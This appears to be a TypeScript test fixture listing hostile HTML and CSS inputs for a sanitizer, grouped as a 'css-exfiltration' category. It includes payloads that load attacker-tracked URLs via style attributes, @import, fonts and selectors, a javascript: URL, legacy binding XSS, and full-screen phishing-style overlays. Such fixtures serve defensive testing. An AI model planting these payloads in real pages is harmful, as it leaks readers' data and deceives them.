import { leak, type HostileCategory } from '../hostile-input';

/** Styles that fetch, overlay the reader, or read the page out through selectors. */
export const cssExfiltration: HostileCategory = {
  slug: 'css-exfiltration',
  inputs: [
    {
      name: 'style attribute loading a background',
      body: `<p style="background:url(${leak('style-attr.png')})">Styled paragraph.</p>`,
    },
    {
      name: 'style attribute with a javascript: URL',
      body: '<p style="background-image:url(javascript:window.__pwned=1)">Styled paragraph.</p>',
    },
    {
      name: 'fixed overlay',
      body: '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff;color:#000">Session expired: call 555-0100 now.</div>',
    },
    { name: 'overlay by class', body: '<div class="fixed inset-0 z-50 modal">Your reader needs an update.</div>' },
    { name: '@import', body: `<style>@import url("${leak('import.css')}");</style>` },
    { name: '@import in the head', head: `<style>@import "${leak('head-import.css')}";</style>` },
    {
      name: 'attribute-selector exfiltration',
      body: `<style>a[href^="https://bank"]{background:url(${leak('selector')})}</style><p><a href="https://bank.example/">bank</a></p>`,
    },
    {
      name: 'web font with a unicode range',
      body: `<style>@font-face{font-family:x;src:url(${leak('font.woff2')});unicode-range:U+0041}p{font-family:x}</style>`,
    },
    { name: 'stylesheet link', head: `<link rel="stylesheet" href="${leak('style.css')}">` },
    {
      name: 'stylesheet link in the body',
      body: `<link rel="stylesheet" href="${leak('body-style.css')}"><p>After the link.</p>`,
    },
    { name: 'legacy behaviours', body: '<p style="behavior:url(x.htc);-moz-binding:url(x.xml#xss)">Legacy CSS.</p>' },
    { name: 'font element', body: '<font face="x" color="red" size="7">Big red text</font>' },
    { name: 'style in SVG', body: `<svg><style>*{background:url(${leak('svg-bg.png')})}</style></svg>` },
    {
      name: 'image with a style',
      body: `<img src="/img/photo.jpg" alt="photo" style="position:fixed;top:0;left:0;width:100vw;height:100vh;content:url(${leak('content.png')})">`,
    },
  ],
};
